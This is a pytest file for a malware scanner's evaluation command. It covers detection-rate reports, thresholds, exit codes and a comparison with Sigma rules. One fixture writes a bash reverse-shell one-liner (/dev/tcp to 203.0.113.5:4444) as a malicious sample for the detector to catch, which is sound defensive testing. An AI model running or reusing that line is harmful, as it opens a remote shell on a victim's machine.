"""`inspector eval DIR`: readable and JSON reports, exit status from the thresholds."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.timing import GIVE_UP_S

BIN = Path(sys.executable).parent / "inspector"


def run(*args: str, data_dir: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
    env.update({"INSPECTOR_FETCH": "false", "INSPECTOR_DATA_DIR": str(data_dir)})
    return subprocess.run([str(BIN), "eval", *args], capture_output=True, text=True, env=env, timeout=GIVE_UP_S)


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    root = tmp_path / "corpus"
    (root / "malicious" / "shell").mkdir(parents=True)
    (root / "benign" / "shell").mkdir(parents=True)
    (root / "malicious" / "shell" / "a.sh").write_text("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n")
    (root / "benign" / "shell" / "b.sh").write_text("apt-get install -y nginx\n")
    return root


def test_text_report_and_success(corpus: Path, tmp_path: Path) -> None:
    done = run(str(corpus), data_dir=tmp_path / "d")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "detection        1/1 100.00%" in done.stdout
    assert "PASSED" in done.stdout


def test_json_report(corpus: Path, tmp_path: Path) -> None:
    done = run(str(corpus), "--json", data_dir=tmp_path / "d")
    report = json.loads(done.stdout)
    assert report["passed"] is True
    assert report["detection_by_language"]["shell"] == {"total": 1, "hits": 1, "rate": 1.0}
    assert {r["path"] for r in report["results"]} == {"malicious/shell/a.sh", "benign/shell/b.sh"}


def test_a_missed_sample_fails_the_threshold(corpus: Path, tmp_path: Path) -> None:
    (corpus / "malicious" / "shell" / "quiet.sh").write_text("echo hello\n")
    done = run(str(corpus), data_dir=tmp_path / "d")
    assert done.returncode == 1
    assert "malicious/shell/quiet.sh" in done.stdout and "FAILED" in done.stdout
    assert run(str(corpus), "--min-detection", "0.5", data_dir=tmp_path / "d").returncode == 0


def test_a_folder_without_samples_is_an_error(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    done = run(str(empty), data_dir=tmp_path / "d")
    assert done.returncode == 2
    assert "no samples" in done.stderr


RULE = """title: Greeting of a test
id: 6f1d3f4e-2b1a-4c1e-9a55-0c2b7c1d0e02
description: a rule for tests
author: tests
logsource: {category: process_creation, product: linux}
detection:
  selection: {CommandLine|contains: hello}
  condition: selection
level: critical
"""


def test_compare_sigma_shows_both_runs_and_what_sigma_alone_flags(corpus: Path, tmp_path: Path) -> None:
    (corpus / "malicious" / "shell" / "quiet.sh").write_text("echo hello\n")
    rules = tmp_path / "sigma"
    rules.mkdir()
    (rules / "r.yml").write_text(RULE)
    env_run = lambda *a: subprocess.run(  # noqa: E731
        [str(BIN), "eval", *a], capture_output=True, text=True, timeout=GIVE_UP_S,
        env={**{k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")},
             "INSPECTOR_FETCH": "false", "INSPECTOR_DATA_DIR": str(tmp_path / "d"),
             "INSPECTOR_SIGMA_DIRS": str(rules)})
    text = env_run(str(corpus), "--compare-sigma")
    assert text.returncode == 0, text.stdout + text.stderr
    assert "detected only with Sigma (1):" in text.stdout and "malicious/shell/quiet.sh" in text.stdout
    report = json.loads(env_run(str(corpus), "--compare-sigma", "--json").stdout)
    assert report["with_sigma"]["detection"]["rate"] == 1.0
    assert report["without_sigma"]["detection"]["rate"] == 0.5


def test_compare_sigma_without_sigma_folders_is_an_error(corpus: Path, tmp_path: Path) -> None:
    done = run(str(corpus), "--compare-sigma", data_dir=tmp_path / "d")
    assert done.returncode == 2 and "INSPECTOR_SIGMA_DIRS" in done.stderr
